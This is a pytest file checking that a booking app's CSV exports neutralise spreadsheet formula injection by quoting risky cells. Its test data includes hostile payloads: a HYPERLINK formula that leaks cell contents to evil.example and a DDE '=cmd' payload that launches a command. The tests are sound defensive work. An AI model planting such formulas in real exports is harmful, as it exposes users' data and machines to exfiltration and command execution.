"""The owner's CSV exports neutralise cells a spreadsheet would run as formulas (OWASP's
CSV injection rule): =, +, -, @, tab or carriage return first gets a leading quote."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from booking.analytics import Filters, export_csv, safe_cell
from tests.conftest import T0

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "notes": "=cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada = Lovelace", "Ada = Lovelace"),
        ("ada@example.com", "ada@example.com"),
        ("", ""),
        (None, None),
        (42, 42),
        (-3, -3),
    ],
)
def test_a_cell_is_quoted_only_when_it_starts_like_a_formula(cell, written):
    """The rule on single cells: text starting with a formula character is quoted; other
    text, numbers and empties are written as they are."""
    assert safe_cell(cell) == written


def test_the_attempts_and_bookings_csv_carry_no_live_formula(desk, clock):
    """Hostile name and notes (as a Calendly webhook may store them unchecked) come out of
    both downloads quoted, every other column as it was."""
    desk.store.create_attempt("att_evil", now=clock(), source="web")
    desk.store.update_attempt(
        "att_evil", now=clock(), analyst="maya", provider="local", email="e@example.com", **HOSTILE
    )
    desk.store.db["bookings"].insert(
        {
            "reference": "BD-EVIL",
            "attempt_id": "att_evil",
            "provider": "calendly",
            "analyst": "maya",
            "start_utc": (T0 + timedelta(days=1)).isoformat(),
            "end_utc": (T0 + timedelta(days=1, hours=1)).isoformat(),
            "status": "confirmed",
            "created_at": T0.isoformat(),
            "email": "@evil.example",
            **HOSTILE,
        }
    )
    f = Filters(T0.date(), T0.date())
    for what in ("attempts", "bookings"):
        (row,) = list(csv.DictReader(io.StringIO(export_csv(desk.store, f, what))))
        assert row["name"] == "'" + HOSTILE["name"]
        assert row["notes"] == "'" + HOSTILE["notes"]
        assert row["analyst"] == "maya" and row["created_at"] == T0.isoformat()
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    (booking,) = list(csv.DictReader(io.StringIO(export_csv(desk.store, f, "bookings"))))
    assert booking["email"] == "'@evil.example"
